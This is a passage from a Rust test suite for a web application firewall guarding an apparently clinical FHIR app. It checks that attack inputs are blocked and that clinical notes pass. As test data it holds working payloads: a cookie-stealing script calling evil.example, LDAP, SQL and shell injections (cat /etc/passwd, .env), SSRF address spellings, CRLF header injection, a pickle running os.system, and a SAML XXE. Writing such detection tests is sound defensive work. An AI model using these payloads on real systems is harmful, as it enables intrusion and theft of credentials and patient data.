        "<html><body><script>fetch('//evil.example/?'+document.cookie)</script></body></html>";
    assert!(upload("help.html", "text/html", html).blocked);
    let plain = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Clinic logo</title><path d="M0 0h10v10H0z" fill="#0a0"/></svg>"##;
    let v = upload("logo.svg", "image/svg+xml", plain);
    assert!(v.hits.is_empty(), "{v:#?}");
}

#[test]
fn ldap_filter_injection() {
    let e = engine();
    let json = "application/json";
    for user in [
        "*)(uid=*))(|(uid=*",
        "admin)(|(password=*)",
        "*)(objectClass=*",
        "x)(&(cn=admin)",
        "val)&(cn=admin",
        "*)!(sn=*",
        "admin)(|",
        "bar)(&)",
    ] {
        let body = format!(r#"{{"user":"{user}","pass":"x"}}"#);
        assert_blocked_by(&post(&e, "/login", json, &body), 260100);
    }
    // A whole filter (it opens what it closes) is what some apps take; parentheses and equals
    // signs in clinical text are not filters.
    for note in [
        "(userAccountControl:1.2.840.113556.1.4.803:=2)(&(objectCategory=group))",
        "BP (sitting)(left arm) 120/80; HR=72 (regular)",
        "Wound (left leg) (dressing=changed)",
        "Meds: metformin (500 mg)(BID); A1c=7.1 (improved) *see chart* (follow-up)",
    ] {
        let body = format!(r#"{{"note":"{note}"}}"#);
        assert!(post(&e, "/notes", json, &body).hits.is_empty(), "{note}");
    }
}

#[test]
fn internal_hosts_in_every_spelling_resolvers_accept() {
    let e = engine();
    for spelling in [
        "http://127.1/",
        "http://0177.0.0.1/",
        "http://0x7f.1/",
        "http://2130706433/",
        "http://[::ffff:7f00:1]/",
        "http://%2531%2532%2537.0.0.1/", // double-encoded: the app's URL parser decodes the host
        "http://user@10.0.0.5:9200/_search",
        "http://example.org%5c@127.0.0.1/", // a backslash ends the host for WHATWG only
        "http:127.1/",
        "http://127.0.0.1.nip.io/",
    ] {
        assert_blocked_by(&get(&e, &format!("/fetch?u={spelling}")), 180110);
    }
    assert_blocked_by(&get(&e, "/?next=http://files.intranet.corp/"), 180112);
    // Public and unparsable addresses are not internal (140100 still calls a bare IP in a URL a
    // remote file inclusion).
    for public in ["http://8.8.8.8/", "http://1.2.3.4.5/", "http://0x08.8.8.8/"] {
        assert!(
            !fired(&get(&e, &format!("/?u={public}")), 180110),
            "{public}"
        );
    }
    assert_passes(&get(&e, "/?u=https://fhir.example.org/r4/Patient/1"));
}

#[test]
fn internal_hosts_in_fhir_and_oauth_url_fields() {
    let e = engine();
    // A FHIR server delivers a Subscription's notifications to its endpoint: to Redis on the
    // dyno here.
    let subscription = r#"{"resourceType":"Subscription","status":"requested","criteria":"Observation?code=8867-4","channel":{"type":"rest-hook","endpoint":"http://127.0.0.1:6379/","payload":"application/fhir+json"}}"#;
    assert_blocked_by(
        &post(
            &e,
            "/fhir/Subscription",
            "application/fhir+json",
            subscription,
        ),
        180111,
    );
    // A private address in another spelling is an evasion, not an example server.
    let evasive = subscription.replace("127.0.0.1:6379", "0xa.2.3.4");
    assert_blocked_by(
        &post(&e, "/fhir/Subscription", "application/fhir+json", &evasive),
        180111,
    );
    // Dynamic client registration: the authorization server fetches the client's keys.
    let registration = r#"{"client_name":"app","jwks_uri":"http://[::1]:8080/keys","redirect_uris":["https://app.example.org/cb"]}"#;
    assert_blocked_by(
        &post(&e, "/register", "application/json", registration),
        180111,
    );
    // Loopback redirects are how native apps receive the code (RFC 8252); namespaces in
    // `system` are never fetched; FHIR's own examples name servers by private dotted quads; a
    // note quotes a URL.
    assert_passes(&get(
        &e,
        "/authorize?response_type=code&client_id=app&redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcallback&state=x",
    ));
    let patient = r#"{"resourceType":"Patient","identifier":[{"system":"http://acme.local/mrn","value":"12345"}],"text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\">Jane Doe</div>"}}"#;
    assert_passes(&post(&e, "/fhir/Patient", "application/fhir+json", patient));
    let capability = r#"{"resourceType":"CapabilityStatement","status":"active","kind":"instance","implementation":{"description":"main EHR","url":"http://10.2.3.4/fhir"},"fhirVersion":"4.0.1","format":["json"]}"#;
    assert_passes(&post(
        &e,
        "/fhir/CapabilityStatement",
        "application/fhir+json",
        capability,
    ));
    // A bundle exported from a FHIR server on a developer's machine names its resources there.
    let bundle = r#"{"resourceType":"Bundle","type":"collection","entry":[{"fullUrl":"http://localhost:8080/fhir/Patient/123","resource":{"resourceType":"Patient","id":"123"}},{"fullUrl":"http://127.0.0.1:8080/fhir/Observation/9/_history/2","resource":{"resourceType":"Observation","id":"9","status":"final","code":{"text":"HR"},"subject":{"reference":"http://localhost:8080/fhir/Patient/123"}}}]}"#;
    assert_passes(&post(&e, "/fhir", "application/fhir+json", bundle));
    let note = r#"{"resourceType":"Communication","payload":[{"contentString":"The kiosk at http://192.168.1.20/ is down again"}],"note":[{"text":"kiosk at http://192.168.1.20/ restarted"}]}"#;
    assert_passes(&post(
        &e,
        "/fhir/Communication",
        "application/fhir+json",
        note,
    ));
}

#[test]
fn header_injection_needs_header_syntax_not_header_words() {
    let e = engine();
    let form = |body: &str| post(&e, "/intake", "application/x-www-form-urlencoded", body);
    for attack in [
        "r=x%0d%0aSet-Cookie:%20sid=attacker",
        "r=x%0d%0aLocation:%20https://evil.example/",
        "r=x%0d%0aLocation:%20//evil.example/",
        "r=x%0d%0aX-XSS-Protection:%200",
        "r=x%0d%0aContent-Type:%20text/html",
        "r=x%0d%0aRefresh:%200;url=https://evil.example/",
        "r=x%0d%0a%0d%0aHTTP/1.1%20200%20OK",
        "r=x%0d%0aRemote-Addr:%20127.0.0.1",
    ] {
        assert_blocked_by(&form(attack), 220100);
    }
    // Lines of an intake form's text area, in fields with generic names.
    for line in [
        "symptoms=Pain+since+Monday.%0d%0aLocation:+left+knee,+worse+on+stairs",
        "imaging=Chest%0d%0aX-ray:+no+acute+findings",
        "plan=Diet%0d%0aConnection+with+dietitian+arranged",
        "reason=Follow-up%0ahost+family+visiting,+needs+interpreter",
        "history=Father:+MI+at+60%0d%0aLink+to+prior+records+requested",
        "referral=Dr+Lee%0d%0aCc:+Dr+Smith,+primary+care",
    ] {
        assert_passes(&form(line));
    }
    // A contact form's address field becomes a header of the mail the app sends.
    assert_blocked_by(
        &form("email=a%40example.org%0d%0aBcc:+list%40evil.example"),
        220105,
    );
    assert_blocked_by(
        &form("email=a%40example.org%0aCc:+x%40evil.example"),
        220105,
    );
    assert_blocked_by(&form("subject=Hello%0d%0abcc:+x%40evil.example"), 220105);
}

/// Intake and messaging forms name their text areas anything (`symptoms`, `details`, `plan`),
/// so field typing cannot call them free text: the rules themselves must tell prose from syntax.
#[test]
fn clinical_prose_in_fields_with_generic_names_passes() {
    let e = engine();
    for text in [
        "BP stable; echo shows EF 35%",
        "Fell at home; head CT negative",
        "Abd pain; cat scan ordered for tomorrow",
        "Anxious; sleep poor, 4-5h/night",
        "Numbness; touch sensation decreased L hand",
        "Will check TSH; id band verified",
        "Rash; tail of eyebrow thinning",
        "Pain 6/10 | sleep poor | mood ok",
        "Plan: diuresis & echo in AM",
        "Refill sent; call pharmacy to confirm",
        "Plan: rest; begin PT next week",
        "Labs drawn; copy results to PCP",
        "Allergy noted; insert into chart",
        "Done; delete from my list please",
        "Seen today; exec summary sent to Dr. O'Brien & the care team (cc: nursing)",
        "Discussed; update chart set to reflect new dose",
        "Ok; grant access to daughter",
        "Union Hospital discharge summary attached; select records from 2019-2022 requested from Mercy.",
        "Mental status: A&Ox3; mood 'down'; affect flat; sleep 4-5h/night",
        "Sleep(8h) improved; energy better",
        "Document.write-up by RN pending",
        "HEENT; head/neck normal; OD 20/40, OS 20/30",
        "Plan; echo c/w LVH, see Dr.Smith's note",
    ] {
        let form = format!("details={}", form_value(text));
        assert_passes(&post(
            &e,
            "/intake",
            "application/x-www-form-urlencoded",
            &form,
        ));
        let json = format!(r#"{{"details":{}}}"#, json_string(text));
        assert_passes(&post(&e, "/api/intake", "application/json", &json));
    }
    // The same words with shell or SQL syntax in the same fields.
    for (attack, rule) in [
        ("details=x%3Bcat+/etc/passwd", 150100),
        ("details=x%3B+sleep+5", 150100),
        ("details=x%3B+echo+$PATH", 150100),
        ("details=x%3B+id", 150100),
        ("details=x%3B+cat+flag.txt", 150100),
        ("details=x+%7C+cat+config/database.yml", 150100),
        ("details=x%3B+cat+.env", 150100),
        ("details=x%3B+dd+if%3D/dev/zero+of%3Dx", 150100),
        ("details=x'%3B+update+users+set+role%3D'admin'--", 240150),
        ("details=1%3B+insert+into+users+values('a','b')--", 240150),
        ("details=1%3B+call+proc(1)", 240150),
        ("details=%22%3Bdocument.write(document.domain)//", 230140),
    ] {
        assert_blocked_by(
            &post(&e, "/intake", "application/x-www-form-urlencoded", attack),
            rule,
        );
    }
}

#[test]
fn server_configuration_uploads_pickles_and_dotnet_class_names() {
    let e = engine();
    let upload = |filename: &str| {
        let body = format!("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\nAddType application/x-httpd-php .png\r\n--b--\r\n");
        post(&e, "/upload", "multipart/form-data; boundary=b", &body)
    };
    for name in [
        ".htaccess",
        "uploads/.htaccess",
        ".user.ini",
        "web.config",
        ".HTACCESS.",
    ] {
        assert_blocked_by(&upload(name), 160165);
    }
    for name in ["htaccess-notes.txt", "my.htaccess.txt", "web.config.pdf"] {
        assert!(!fired(&upload(name), 160165), "{name}");
    }
    // A protocol-4 pickle of os.system("id") as a cookie and a parameter.
    let pickle = "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==";
    assert_blocked_by(
        &with_header(&e, "Cookie", &format!("session={pickle}")),
        170165,
    );
    assert_blocked_by(&get(&e, &format!("/?state={pickle}")), 170165);
    // Case matters in base64: the same letters in another case are another value.
    assert!(!fired(&get(&e, "/?state=GASVHQAAAAAAAACM"), 170165));
    assert!(!fired(&get(&e, "/?token=x.gASVHQAAAAAAAACM"), 170165));
    assert_blocked_by(
        &get(&e, "/?q=@(System.Diagnostics.Process.Start(%22cmd.exe%22))"),
        170195,
    );
}

#[test]
fn a_doctype_inside_a_base64_saml_response_is_xxe() {
    let e = engine();
    let response = r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0" Destination="https://portal.example.org/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">http://www.okta.com/exk1</saml:Issuer><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_2"><saml:Subject><saml:NameID>dr.jane@example.org</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"#;
    let evil = format!(
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>{response}"#
    );
    let form = |xml: &str| {
        let b64 = fixtures::base64(xml.as_bytes(), 0);
        let body = format!(
            "SAMLResponse={}&RelayState=%2Fdashboard",
            b64.replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D")
        );
        post(&e, "/saml/acs", "application/x-www-form-urlencoded", &body)
    };
    assert_blocked_by(&form(&evil), 190135);
    assert_passes(&form(response));
}
